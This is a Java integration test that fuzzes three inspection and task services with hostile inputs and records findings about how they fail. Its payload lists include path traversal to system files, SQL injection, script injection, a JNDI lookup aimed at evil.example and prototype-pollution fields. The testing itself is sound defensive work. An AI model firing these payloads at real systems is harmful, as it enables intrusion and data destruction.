package vn.ntm.system;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 7, part 3: hostile input against every operation of the three services, enumerated from their OpenAPI
 * documents. Every case must be answered with a 4xx {@code application/problem+json} (a few documented
 * exceptions, {@link Expect#TOLERANT}, may also answer 2xx but must then return nothing), never a 5xx, and the
 * three databases must be byte-for-byte unchanged afterwards (fingerprinted per operation).
 *
 * <p>Run alone: {@code ./mvnw -B -o -pl system-tests verify -Dit.test=HostileInputIT -Dtest=NoSuchTest
 * -Dsurefire.failIfNoSpecifiedTests=false}.
 */
@org.junit.jupiter.api.Order(2) // on the shared stack, before StackIT stops it
class HostileInputIT {
    /** service name → database. */
    private static final Map<String, String> DATABASES = Map.of("criteria-service", "criteria",
            "inspection-service", "inspection", "task-service", "task");
    private static final String PUBLISHED_SET = "XA_NTM_2021_2025";
    private static final String DRAFT_SET = "HOSTILE_DRAFT";
    private static final String NEW_SET = "HOSTILE_NEW";
    private static final String NEW_RULE = "HOSTILE_RULE";
    private static final String MB = "A".repeat(1024 * 1024);
    /** Bodyless, but sent with the draft's current If-Match so that its cases test the path, not the header. */
    private static final String FINALIZE = "inspection-service POST /inspections/{id}/finalize";

    private static SystemStack stack;
    private static String bearer;
    private static Api api;
    /** HTTP/1.1, as curl and most frontends send it (the JDK client would otherwise try an h2c upgrade). */
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(2)).build();

    /**
     * How many cases of each input class one operation gets (spread evenly over the class's parameters and values);
     * 0: all of them. The default suite sends about half of the ~2,400 cases; the volume profile ({@code -Pload})
     * sends every one.
     */
    private static final int CASES_PER_CLASS = Integer.getInteger("hostile.cases-per-class", 4);

    private static String draftInspection;
    private static String finalInspection;
    private static String draftCommune;
    private static String finalCommune;
    private static String taskId;
    private static long taskVersion;

    /** What a case must get back. */
    enum Expect {
        /** 4xx and application/problem+json. */
        STRICT,
        /**
         * Not an error by contract (a free-text filter, a page past the end, the history of a commune nobody
         * inspected): 2xx that returns nothing is accepted; a 4xx must still be problem+json; never a 5xx.
         */
        TOLERANT,
        /** A page number past the end: any 2xx (an empty page; the summary and CSV ignore paging), never a 5xx. */
        NO_SERVER_ERROR
    }

    /** {@code documented}: status → the problem codes the operation's OpenAPI entry lists for it. */
    record Op(String service, String method, String path, List<Param> params, boolean hasBody,
              Map<String, List<String>> documented) {
        String key() {
            return method + " " + path;
        }

        List<Param> in(String where) {
            return params.stream().filter(p -> p.in().equals(where)).toList();
        }
    }

    record Param(String name, String in, JsonNode schema) {
    }

    record Case(String cls, Op op, String url, Map<String, String> headers, byte[] body, Expect expect,
                String input) {
    }

    record Outcome(Case c, int status, String contentType, String body) {
        boolean passed() {
            boolean problem = contentType.startsWith("application/problem+json");
            if (status >= 400 && status < 500) {
                return problem;
            }
            if (c.expect() == Expect.TOLERANT && status >= 200 && status < 300) {
                return returnsNothing(contentType, body);
            }
            if (c.expect() == Expect.NO_SERVER_ERROR && status >= 200 && status < 300) {
                return true;
            }
            return false;
        }
    }

    /** A valid body for an operation and where to break it. Pointers are JSON pointers into {@code valid}. */
    record Template(JsonNode valid, Map<String, String> headers, List<String> required, List<String> enums,
                    List<String> texts, List<String> codes) {
        /** Keeps only pointers that exist in {@code valid}: breaking a field that is not there would send a valid
         * body, which the service rightly accepts. */
        Template {
            required = required.stream().filter(p -> !valid.at(p).isMissingNode()).toList();
            enums = enums.stream().filter(p -> !valid.at(p).isMissingNode()).toList();
            texts = texts.stream().filter(p -> valid.at(p.substring(0, p.lastIndexOf('/'))).isContainerNode())
                    .toList();
            codes = codes.stream().filter(p -> valid.at(p.substring(0, p.lastIndexOf('/'))).isContainerNode())
                    .toList();
        }
    }

    @BeforeAll
    static void startStackAndPrepareResources() throws Exception {
        stack = SystemStack.shared();
        bearer = stack.tokens().token("hostile-it", "admin").bearer();
        api = new Api(bearer);

        // real resources, so that path ids exist where a case needs them to reach the body or query checks
        JsonNode golden = SeedInspection.golden();
        draftCommune = golden.get("communes").get(0).get("code").asText();
        finalCommune = draftCommune;
        draftInspection = SeedInspection.enter(api, base("inspection-service"));
        finalInspection = SeedInspection.enter(api, base("inspection-service"));
        HttpResponse<String> fin = SeedInspection.finalize(api, base("inspection-service"), finalInspection);
        assertThat(fin.statusCode()).as(fin.body()).isEqualTo(200);
        HttpResponse<String> export = api.get(base("criteria-service") + "/criteria-sets/" + PUBLISHED_SET
                + "/export");
        assertThat(export.statusCode()).as(export.body()).isEqualTo(200);
        ObjectNode draft = (ObjectNode) api.json(export);
        draft.put("code", DRAFT_SET);
        HttpResponse<String> created = api.send("POST", base("criteria-service") + "/criteria-sets", draft);
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        long deadline = System.nanoTime() + Duration.ofSeconds(90).toNanos();
        while (taskId == null && System.nanoTime() < deadline) {
            HttpResponse<String> list = api.get(base("task-service") + "/tasks?inspectionId=" + finalInspection
                    + "&size=1");
            if (list.statusCode() == 200 && api.json(list).get("total").asLong() > 0) {
                taskId = api.json(list).get("items").get(0).get("id").asText();
            } else {
                Thread.sleep(100);
            }
        }
        assertThat(taskId).as("a task of the finalized inspection").isNotNull();
        awaitSuccession(deadline + Duration.ofSeconds(60).toNanos());
        awaitQuiescence();
        HttpResponse<String> task = api.get(base("task-service") + "/tasks/" + taskId);
        taskVersion = api.json(task).get("version").asLong();
    }

    /**
     * The seed is a 2022 inspection of units that ceased on 2025-07-01: once task-service's register copy arrives,
     * the succession moves their open tasks (06490 → 06475, 06523 → 06463, district 187 → the coordination office).
     * Wait for that first, so that no move lands while the hostile requests run and the tables are compared.
     */
    private static void awaitSuccession(long deadline) throws InterruptedException {
        for (String code : List.of("06490", "06523", "187")) {
            while (true) {
                HttpResponse<String> left = api.get(base("task-service") + "/tasks?inspectionId=" + finalInspection
                        + "&assigneeCode=" + code + "&size=1");
                if (left.statusCode() == 200 && api.json(left).get("total").asLong() == 0) {
                    break;
                }
                assertThat(System.nanoTime()).as("open tasks of %s moved to its successor", code)
                        .isLessThan(deadline);
                Thread.sleep(100);
            }
        }
    }

    private static String base(String service) {
        return stack.url(service);
    }

    // ------------------------------------------------------------------------------------------------ the test

    @Test
    void everyOperationAnswersHostileInputWithA4xxProblemAndLeavesTheDatabasesUnchanged() throws Exception {
        long t0 = System.nanoTime();
        List<Op> ops = new ArrayList<>();
        for (String service : List.of("criteria-service", "inspection-service", "task-service")) {
            ops.addAll(operations(service));
        }
        Map<String, Template> templates = templates();
        List<String> gaps = new ArrayList<>();
        Map<String, List<Case>> casesByOp = new LinkedHashMap<>();
        for (Op op : ops) {
            List<Case> cases = new ArrayList<>();
            generate(op, templates.get(op.service() + " " + op.key()), cases, gaps);
            casesByOp.put(op.service() + " " + op.key(), cases);
        }
        casesByOp.replaceAll((op, cases) -> sample(op, cases, CASES_PER_CLASS));
        oversizeCases(ops, casesByOp);
        // coverage: an operation without hostile cases (a new endpoint nobody taught this test) fails the test
        casesByOp.forEach((op, cases) -> {
            if (cases.isEmpty()) {
                gaps.add(op + ": no hostile case");
            }
        });

        Map<String, String> baseline = fingerprint();
        Map<String, String> start = baseline;
        List<Outcome> failures = new ArrayList<>();
        List<Outcome> tolerated = new ArrayList<>();
        List<String> dbChanges = new ArrayList<>();
        Set<String> undocumented = new TreeSet<>();
        Map<String, Integer> perClass = new TreeMap<>();
        Map<String, Integer> statuses = new TreeMap<>();
        int total = 0;
        for (Map.Entry<String, List<Case>> entry : casesByOp.entrySet()) {
            for (Case c : entry.getValue()) {
                Outcome o = send(c);
                total++;
                perClass.merge(c.cls(), 1, Integer::sum);
                statuses.merge(Integer.toString(o.status()), 1, Integer::sum);
                undocumentedAnswer(o).ifPresent(undocumented::add);
                if (!o.passed()) {
                    failures.add(o);
                } else if (o.status() < 400) {
                    tolerated.add(o);
                }
            }
            Map<String, String> after = fingerprint();
            if (!after.equals(baseline)) {
                dbChanges.add(entry.getKey() + " changed " + diff(baseline, after));
                baseline = after;
            }
        }
        Map<String, String> end = fingerprint();
        long seconds = (System.nanoTime() - t0) / 1_000_000_000;

        StringBuilder out = new StringBuilder("\n==== HostileInputIT summary ====\n");
        out.append(String.format("operations: %d (criteria %d, inspection %d, task %d)%n", ops.size(),
                ops.stream().filter(o -> o.service().startsWith("criteria")).count(),
                ops.stream().filter(o -> o.service().startsWith("inspection")).count(),
                ops.stream().filter(o -> o.service().startsWith("task")).count()));
        out.append(String.format("%-48s %6s%n", "input class", "cases"));
        perClass.forEach((k, v) -> out.append(String.format("%-48s %6d%n", k, v)));
        out.append(String.format("%-48s %6d%n", "TOTAL", total));
        out.append("statuses: ").append(statuses).append('\n');
        out.append(String.format("tolerated 2xx (documented free-text/page cases, returned nothing): %d%n",
                tolerated.size()));
        out.append(String.format("failures (5xx, 2xx where 4xx was due, or not problem+json): %d%n",
                failures.size()));
        for (Outcome o : failures) {
            out.append(String.format("  FAIL %-3d %-28s %-18s %s %s | %s | %s%n", o.status(),
                    o.contentType().isEmpty() ? "(no content type)" : o.contentType(), o.c().op().service(),
                    o.c().op().key(), o.c().cls(), o.c().input(), abbreviate(o.body(), 160)));
        }
        out.append(String.format("database changes: %d%n", dbChanges.size()));
        dbChanges.forEach(d -> out.append("  DB ").append(d).append('\n'));
        out.append(String.format("answers whose status or code the operation's OpenAPI entry does not list: %d%n",
                undocumented.size()));
        undocumented.forEach(u -> out.append("  UNDOCUMENTED ").append(u).append('\n'));
        out.append(String.format("coverage gaps: %d%n", gaps.size()));
        gaps.forEach(g -> out.append("  GAP ").append(g).append('\n'));
        out.append(String.format("hostile phase took %d s%n", seconds));
        System.out.println(out);

        assertThat(gaps).as("operations without full hostile coverage").isEmpty();
        assertThat(end).as("database fingerprints before and after the hostile cases").isEqualTo(start);
        assertThat(dbChanges).as("operations whose hostile cases changed a database").isEmpty();
        assertThat(failures).as("hostile cases not answered with a 4xx application/problem+json; see the summary")
                .isEmpty();
        assertThat(undocumented).as("answers a client generated from the OpenAPI documents would not expect"
                + " (add the code to META-INF/openapi/<operationId>.json of the service)").isEmpty();
    }

    /** "service METHOD path: status code" when the answer's status, or its problem code, is not documented. */
    static java.util.Optional<String> undocumentedAnswer(Outcome o) {
        if (o.status() < 400) {
            return java.util.Optional.empty();
        }
        String where = o.c().op().service() + " " + o.c().op().key() + ": " + o.status();
        List<String> codes = o.c().op().documented().get(Integer.toString(o.status()));
        if (codes == null) {
            return java.util.Optional.of(where + " (status not documented)");
        }
        if (!o.contentType().startsWith("application/problem+json")) {
            return java.util.Optional.empty(); // reported as a failure already
        }
        try {
            String code = Api.JSON.readTree(o.body()).path("code").asText("");
            return codes.contains(code) ? java.util.Optional.empty()
                    : java.util.Optional.of(where + " " + code + " (documented: " + codes + ")");
        } catch (IOException e) {
            return java.util.Optional.of(where + " (not JSON)");
        }
    }

    /**
     * At most {@code perClass} cases of each input class of an operation, every {@code n}-th from an offset that
     * depends on the operation, so that the parameters and values a sample leaves out differ between operations.
     */
    static List<Case> sample(String op, List<Case> cases, int perClass) {
        if (perClass <= 0) {
            return cases;
        }
        Map<String, List<Case>> byClass = new LinkedHashMap<>();
        cases.forEach(c -> byClass.computeIfAbsent(c.cls(), k -> new ArrayList<>()).add(c));
        List<Case> kept = new ArrayList<>();
        byClass.forEach((cls, all) -> {
            int stride = (all.size() + perClass - 1) / perClass;
            int offset = Math.floorMod((op + cls).hashCode(), stride);
            for (int i = offset; i < all.size(); i += stride) {
                kept.add(all.get(i));
            }
        });
        return kept;
    }

    // ------------------------------------------------------------------------------------------- OpenAPI

    private static List<Op> operations(String service) {
        HttpResponse<String> r = api.get(base(service) + "/q/openapi?format=json");
        assertThat(r.statusCode()).as(service + " OpenAPI").isEqualTo(200);
        JsonNode doc = api.json(r);
        List<Op> ops = new ArrayList<>();
        doc.get("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(m -> {
            if (m.getKey().equals("parameters")) {
                return;
            }
            List<Param> params = new ArrayList<>();
            for (JsonNode list : List.of(path.getValue().path("parameters"), m.getValue().path("parameters"))) {
                for (JsonNode p : list) {
                    if (p.has("$ref")) {
                        // the shared Accept-Language header: any value is answered (in Vietnamese by default)
                        continue;
                    }
                    JsonNode schema = p.path("schema");
                    if (schema.has("$ref")) {
                        String name = schema.get("$ref").asText().replace("#/components/schemas/", "");
                        schema = doc.path("components").path("schemas").path(name);
                    }
                    params.add(new Param(p.get("name").asText(), p.get("in").asText(), schema));
                }
            }
            Map<String, List<String>> documented = new TreeMap<>();
            m.getValue().path("responses").fields().forEachRemaining(answer -> {
                List<String> codes = new ArrayList<>();
                answer.getValue().path("x-problem-codes").forEach(code -> codes.add(code.asText()));
                documented.put(answer.getKey(), codes);
            });
            ops.add(new Op(service, m.getKey().toUpperCase(), path.getKey(), params,
                    m.getValue().has("requestBody"), documented));
        }));
        assertThat(ops).as(service + " operations").isNotEmpty();
        return ops;
    }

    /** The real value of a path parameter, so that the case reaches the part under attack. */
    private static String realPathValue(Op op, String param) {
        String p = op.path();
        if (p.startsWith("/admin/outbox/")) {
            return "1"; // platform-outbox's parked-row id: no row is parked in this stack, so nothing is retried
        }
        return switch (op.service() + " " + param) {
            case "criteria-service code" -> p.startsWith("/provinces") ? "20"
                    : p.startsWith("/admin-units") ? "06475"
                    : p.endsWith("/evaluate") ? PUBLISHED_SET : DRAFT_SET;
            case "criteria-service number" -> "17";
            case "criteria-service indicator" -> "17.8";
            // a DELETE never targets the draft the other operations need: the finalized inspection refuses every
            // deletion (409 at the least), so no hostile case can delete a shared fixture
            // nor does a PATCH, which the finalized inspection refuses too (409 for any valid body)
            case "inspection-service id" -> op.method().equals("DELETE") || op.method().equals("PATCH")
                    ? finalInspection : draftInspection;
            // a province's notice templates: read province 20's; write and delete those of 99, which no register
            // holds (404 after the input's own checks), so no case stores or removes a template
            case "inspection-service provinceCode" -> op.method().equals("GET") ? "20" : "99";
            case "inspection-service kind" -> "docx";
            case "inspection-service recommendationId" -> "00000000-0000-0000-0000-000000000001";
            case "inspection-service communeCode" -> draftCommune;
            case "inspection-service code" -> finalCommune;
            case "task-service id" -> taskId;
            case "task-service code" -> NEW_RULE;
            // no evidence or extension exists on the hostile test's task: every case of these (DELETE of an
            // evidence file included) answers 404 or 4xx for its own input, and nothing is written or deleted
            case "task-service evidenceId", "task-service extensionId" -> "00000000-0000-0000-0000-000000000001";
            default -> null;
        };
    }

    // --------------------------------------------------------------------------------------- case generation

    private static final List<String> NON_UUID = List.of("not-a-uuid", "123", "00000000-0000-0000-0000-00000000000Z");
    private static final List<String> TRAVERSAL = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%5C..%5Cwindows%5Cwin.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd");
    private static final List<String> INJECTION = List.of("' OR '1'='1' --", "1; DROP TABLE task; --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}");
    private static final List<String> UNKNOWN_CODES = List.of("00000000-0000-0000-0000-000000000000",
            "ZZ_UNKNOWN_9999", "99999");
    /** Path values of the task-rule upsert that are well-formed rule codes: PUT creates them, by contract. */
    private static final Pattern RULE_CODE = Pattern.compile("[A-Z0-9_]{1,50}");

    private void generate(Op op, Template template, List<Case> cases, List<String> gaps) {
        String opName = op.service() + " " + op.key();
        Map<String, String> real = new LinkedHashMap<>();
        for (Param p : op.in("path")) {
            String value = realPathValue(op, p.name());
            if (value == null) {
                gaps.add(opName + ": no real value for path parameter {" + p.name() + "}; add it to realPathValue");
                value = "x";
            }
            real.put(p.name(), value);
        }
        if (op.hasBody() && template == null) {
            gaps.add(opName + ": has a request body but no valid-body template; add one to templates()");
        }
        byte[] validBody = template == null ? null : bytes(template.valid());
        Map<String, String> validHeaders = template != null ? template.headers()
                : opName.equals(FINALIZE) ? SeedInspection.ifMatch(api, base("inspection-service"), draftInspection)
                : Map.of();
        boolean upsert = op.key().equals("PUT /task-rules/{code}");
        boolean bodylessCommand = !op.hasBody() && !op.method().equals("GET");

        // path parameters: one hostile value at a time, the others real, the body valid (only the path is wrong)
        for (Param p : op.in("path")) {
            // the history of a commune nobody inspected is an empty list, not an error: inspection-service keeps
            // no register of communes, so it cannot tell an unknown code from a commune never inspected
            Expect expect = op.key().equals("GET /communes/{code}/history") ? Expect.TOLERANT : Expect.STRICT;
            Map<String, List<String>> values = new LinkedHashMap<>();
            values.put("path: non-UUID id", NON_UUID);
            values.put("path: traversal", TRAVERSAL);
            values.put("path: injection", INJECTION.stream().map(HostileInputIT::encode).toList());
            values.put("path: unknown code/id", UNKNOWN_CODES);
            values.put("path: huge value (2000 chars)", List.of("A".repeat(2000)));
            values.forEach((cls, list) -> {
                for (String v : list) {
                    if (upsert && RULE_CODE.matcher(v).matches()) {
                        continue; // PUT /task-rules/{code} creates a rule with any well-formed new code
                    }
                    Map<String, String> path = new LinkedHashMap<>(real);
                    path.put(p.name(), v);
                    cases.add(new Case(cls, op, url(op, path, Map.of()), validHeaders, validBody, expect,
                            "{" + p.name() + "}=" + abbreviate(v, 60)));
                }
            });
        }

        // query parameters: one hostile value at a time
        for (Param p : op.in("query")) {
            queryCases(op, p, real, cases);
        }

        // header parameters
        for (Param p : op.in("header")) {
            if (p.name().equalsIgnoreCase("If-Match")) {
                for (String v : List.of("abc", "\"-1\"", "\"99999999999999999999\"", "W/\"1\"", "*; DROP TABLE task",
                        "\"" + "9".repeat(2000) + "\"")) {
                    Map<String, String> h = new LinkedHashMap<>(validHeaders);
                    h.put("If-Match", v);
                    cases.add(new Case("header: hostile If-Match", op, url(op, real, Map.of()), h, validBody,
                            Expect.STRICT, "If-Match: " + abbreviate(v, 40)));
                }
            } else if (template != null) {
                // a free-text header (X-Actor) is recorded, not validated: hostile values ride on an invalid body
                ObjectNode invalid = template.valid().deepCopy();
                remove(invalid, template.required().get(0));
                for (String v : INJECTION) {
                    Map<String, String> h = new LinkedHashMap<>(validHeaders);
                    h.put(p.name(), v);
                    cases.add(new Case("header: injection + invalid body", op, url(op, real, Map.of()), h,
                            bytes(invalid), Expect.STRICT, p.name() + ": " + v));
                }
            }
        }

        // content negotiation: nothing this API produces is XML
        Map<String, String> accept = new LinkedHashMap<>(validHeaders);
        accept.put("Accept", "application/xml");
        Map<String, String> acceptPath = new LinkedHashMap<>(real);
        if (bodylessCommand) {
            // never send a real id to publish/retire/finalize: if negotiation came after the command, it would run
            acceptPath.replaceAll((k, v) -> "00000000-0000-0000-0000-000000000000");
        }
        cases.add(new Case("accept: unacceptable media type", op, url(op, acceptPath, Map.of()), accept, validBody,
                Expect.STRICT, "Accept: application/xml"));

        if (op.hasBody()) {
            bodyCases(op, template, real, cases);
        }
    }

    private void queryCases(Op op, Param p, Map<String, String> path, List<Case> cases) {
        String name = p.name();
        String kind = switch (name) {
            case "page" -> "page";
            case "size" -> "size";
            case "status", "assigneeType" -> "enum";
            case "inspectionId" -> "uuid";
            case "criterion", "year" -> "int";
            case "overdue" -> "bool";
            case "dueBefore" -> "date";
            case "sort" -> "sort";
            case "q", "set", "province", "district", "commune", "assigneeCode", "communeCode" -> "text";
            default -> p.schema().has("enum") ? "enum" : switch (p.schema().path("type").asText()) {
                case "integer", "number" -> "int";
                case "boolean" -> "bool";
                default -> "text";
            };
        };
        Map<String, List<String>> strict = new LinkedHashMap<>();
        Map<String, List<String>> tolerant = new LinkedHashMap<>();
        Map<String, List<String>> noServerError = new LinkedHashMap<>();
        switch (kind) {
            case "page" -> {
                strict.put("query: negative page", List.of("-1", "-2147483648"));
                strict.put("query: wrong type", List.of("abc", "1.5", "0x10"));
                // a page past the end is an empty page, not an error (but never an overflow into a 5xx).
                // FINDING F1 (at the time of writing): GET /inspections and GET /tasks answer page=2147483647 and
                // page=1000000000 with 500 (page * size overflows int into a negative first result).
                noServerError.put("query: huge page number", List.of("2147483647", "1000000000"));
                strict.put("query: number overflow", List.of("99999999999999999999"));
            }
            case "size" -> {
                strict.put("query: zero/negative page size", List.of("0", "-1", "-2147483648"));
                strict.put("query: huge page size", List.of("1000", "2147483647", "99999999999999999999"));
                strict.put("query: wrong type", List.of("abc", "1.5", "1e3"));
            }
            case "enum" -> {
                strict.put("query: unknown enum value", List.of("NOT_A_VALUE", "not_a_value", "0"));
            }
            case "uuid" -> strict.put("query: wrong type", List.of("not-a-uuid", "123"));
            // FINDING F7: GET /inspections?year=-1 answers 200 (an empty page) instead of 400
            case "int" -> strict.put("query: wrong type", List.of("abc", "1.5", "-1", "99999999999999999999"));
            case "bool" -> strict.put("query: wrong type", List.of("yes", "1", "abc"));
            case "date" -> strict.put("query: wrong type", List.of("2022-13-45", "yesterday", "31/12/2022"));
            case "sort" -> strict.put("query: unknown enum value", List.of("notAField", "-", "dueDate;drop"));
            default -> {
            }
        }
        if (kind.equals("text")) {
            // free-text filters: any text is a legal filter value; it must simply match nothing
            tolerant.put("query: injection", INJECTION);
            tolerant.put("query: huge value (2000 chars)", List.of("A".repeat(2000)));
        } else {
            strict.put("query: injection", INJECTION);
            strict.put("query: huge value (2000 chars)", List.of("9".repeat(2000)));
        }
        Map<String, String> headers = Map.of();
        strict.forEach((cls, values) -> values.forEach(v -> cases.add(new Case(cls, op,
                url(op, path, Map.of(name, v)), headers, null, Expect.STRICT, name + "=" + abbreviate(v, 60)))));
        tolerant.forEach((cls, values) -> values.forEach(v -> cases.add(new Case(cls, op,
                url(op, path, Map.of(name, v)), headers, null, Expect.TOLERANT, name + "=" + abbreviate(v, 60)))));
        noServerError.forEach((cls, values) -> values.forEach(v -> cases.add(new Case(cls, op,
                url(op, path, Map.of(name, v)), headers, null, Expect.NO_SERVER_ERROR,
                name + "=" + abbreviate(v, 60)))));
    }

    private void bodyCases(Op op, Template t, Map<String, String> path, List<Case> cases) {
        String url = url(op, path, Map.of());
        Map<String, String> h = t == null ? Map.of() : t.headers();
        Consumer<Object[]> add = a -> cases.add(new Case((String) a[0], op, url, withJson(h), (byte[]) a[1],
                Expect.STRICT, (String) a[2]));
        // each broken create body gets its own new set code, so that every wrongly accepted case shows (a second
        // acceptance of the same code would hide behind a 409)
        boolean createSet = op.key().equals("POST /criteria-sets") && t != null;
        boolean arrayRoot = t != null && t.valid().isArray();
        byte[] valid = t == null ? "{\"a\":\"b\"}".getBytes(StandardCharsets.UTF_8) : bytes(t.valid());
        String validText = new String(valid, StandardCharsets.UTF_8);

        // malformed JSON
        add.accept(new Object[]{"body: malformed JSON", utf8(validText.substring(0, validText.length() / 2)),
                "valid body cut in half"});
        // FINDING F2: every body endpoint of the three services accepts a valid document followed by trailing
        // garbage (Jackson's FAIL_ON_TRAILING_TOKENS is off) and writes it (201/200)
        add.accept(new Object[]{"body: malformed JSON", utf8(validText + "}garbage"), "valid body + trailing garbage"});
        add.accept(new Object[]{"body: malformed JSON", utf8("{'single':'quotes'}"), "single quotes"});
        add.accept(new Object[]{"body: malformed JSON", utf8("{\"a\":1,,}"), "double comma"});
        add.accept(new Object[]{"body: malformed JSON", utf8("{unquoted: true}"), "unquoted name"});
        // wrong root type
        for (String root : List.of(arrayRoot ? "{}" : "[]", "\"text\"", "42", "true")) {
            add.accept(new Object[]{"body: wrong root type", utf8(root), root});
        }
        // null, empty, deep nesting, invalid UTF-8, wrong content type
        add.accept(new Object[]{"body: null", utf8("null"), "null"});
        add.accept(new Object[]{"body: empty", new byte[0], "(0 bytes)"});
        add.accept(new Object[]{"body: deep nesting (10,000 levels)",
                utf8("[".repeat(10_000) + "]".repeat(10_000)), "[[[...]]] x10000"});
        add.accept(new Object[]{"body: deep nesting (10,000 levels)",
                utf8("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)), "{\"a\":{\"a\":...}} x10000"});
        String utf8Target = t == null ? null : first(t.texts(), t.codes());
        // FINDING F3: the overlong encoding C0 AF (forbidden by RFC 3629) is accepted on every body endpoint and
        // decoded as '/' ("x/x" is stored); C3 28, FF FE and the encoded surrogate ED A0 80 are rejected with 400
        for (byte[] bad : List.of(new byte[]{(byte) 0xC3, (byte) 0x28}, new byte[]{(byte) 0xFF, (byte) 0xFE},
                new byte[]{(byte) 0xC0, (byte) 0xAF}, new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80})) {
            byte[] body;
            if (t == null || utf8Target == null) {
                body = splice(utf8("{\"a\":\"@@BAD@@\"}"), bad);
            } else {
                JsonNode copy = t.valid().deepCopy();
                set(copy, utf8Target, "x@@BAD@@x");
                body = splice(bytes(copy), bad);
            }
            add.accept(new Object[]{"body: invalid UTF-8", body, "bytes " + hex(bad) + " in "
                    + (utf8Target == null ? "/a" : utf8Target)});
        }
        for (Map.Entry<String, byte[]> ct : List.of(Map.entry("text/plain", valid),
                Map.entry("application/xml", utf8("<a/>")), Map.entry("application/x-www-form-urlencoded",
                        utf8("a=b")),
                // FINDING F4: a valid body without any Content-Type is accepted as JSON (and written) everywhere;
                // the READMEs promise 415 for a wrong content type; the lead decides whether a missing one is wrong
                Map.entry("", valid))) {
            Map<String, String> headers = new LinkedHashMap<>(h);
            if (!ct.getKey().isEmpty()) {
                headers.put("Content-Type", ct.getKey());
            }
            cases.add(new Case("body: wrong content type", op, url, headers, ct.getValue(), Expect.STRICT,
                    ct.getKey().isEmpty() ? "no Content-Type, valid body" : "Content-Type: " + ct.getKey()));
        }
        if (t == null) {
            return;
        }
        // wrong field types: every leaf (first element of each array) gets a value of another JSON type
        for (Map.Entry<String, JsonNode> leaf : leaves(t.valid(), "").entrySet()) {
            for (JsonNode wrong : wrongTypes(leaf.getValue())) {
                JsonNode copy = fresh(t, createSet, leaf.getKey());
                set(copy, leaf.getKey(), wrong);
                add.accept(new Object[]{"body: wrong field type", bytes(copy), leaf.getKey() + "=" + wrong});
            }
        }
        // missing required fields
        for (String field : t.required()) {
            JsonNode copy = fresh(t, createSet, field);
            remove(copy, field);
            add.accept(new Object[]{"body: missing required field", bytes(copy), "without " + field});
        }
        // unknown fields, combined with an otherwise invalid body
        for (int i = 0; i < Math.min(2, t.required().size()); i++) {
            JsonNode copy = t.valid().deepCopy();
            remove(copy, t.required().get(i));
            ObjectNode target = (ObjectNode) (copy.isArray() ? copy.get(0) : copy);
            target.put("unknownField", "x");
            target.putObject("__proto__").put("admin", true);
            target.put("id", "00000000-0000-0000-0000-000000000001");
            add.accept(new Object[]{"body: unknown fields + invalid body", bytes(copy),
                    "unknownField, __proto__, id; without " + t.required().get(i)});
        }
        // 1 MB strings in text and code fields.
        // FINDING F5: fields without a size limit take 1 MB and store it: criteria-set groups[].name/code,
        // provinceCode, baseSet, criteria[].code/group/sectors[] (POST and PUT); threshold unit; findings
        // note/remedy/responsible[].name/code; task-rule description. Evaluate takes any JSON as an indicator
        // value (a string, an object, 1 MB) and answers 200 instead of the documented 422.
        for (String field : new LinkedHashSet<>(concat(t.texts(), t.codes()))) {
            JsonNode copy = fresh(t, createSet, field);
            set(copy, field, MB);
            add.accept(new Object[]{"body: 1 MB string", bytes(copy), field + "=<1 MB of A>"});
        }
        // a deep structure where a text is expected
        if (utf8Target != null) {
            JsonNode copy = t.valid().deepCopy();
            set(copy, utf8Target, "@@DEEP@@");
            String deep = new String(bytes(copy), StandardCharsets.UTF_8).replace("\"@@DEEP@@\"",
                    "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
            add.accept(new Object[]{"body: deep nesting (10,000 levels)", utf8(deep), utf8Target + "={...} x10000"});
        }
        // unknown enum values
        for (String field : t.enums()) {
            JsonNode current = at(t.valid(), field);
            for (String v : List.of("NOT_A_VALUE", current.asText().toLowerCase(), "")) {
                JsonNode copy = fresh(t, createSet, field);
                set(copy, field, v);
                add.accept(new Object[]{"body: unknown enum value", bytes(copy), field + "=\"" + v + "\""});
            }
        }
        // injection strings in code and id fields of an otherwise valid body.
        // FINDING F6: code fields without a format accept them and store them (no SQL is injected: the values
        // come back verbatim): criteria-set provinceCode, baseSet, groups[].code, criteria[].code/group/sectors[]
        // (drafts; the README checks these only at publish); inspection province/district/commune code (only
        // the strings that fit in 20 chars), leadAgency.code; recommendation assignee.code; findings
        // responsible[].code
        for (String field : t.codes()) {
            for (String v : INJECTION) {
                JsonNode copy = fresh(t, createSet, field);
                set(copy, field, v);
                add.accept(new Object[]{"body: injection in code field", bytes(copy), field + "=" + v});
            }
        }
    }

    private int setSequence;

    private JsonNode fresh(Template t, boolean createSet, String field) {
        JsonNode copy = t.valid().deepCopy();
        if (createSet && !field.equals("/code")) {
            ((ObjectNode) copy).put("code", NEW_SET + "_" + (++setSequence));
        }
        return copy;
    }

    /**
     * One per service: a request line and a body beyond the HTTP layer's limits.
     * FINDING F8: both are answered by Vert.x before any application code: 414 and 413 with an empty body
     * and no Content-Type, not problem+json (needs a route/failure handler or limits mapping in each service).
     */
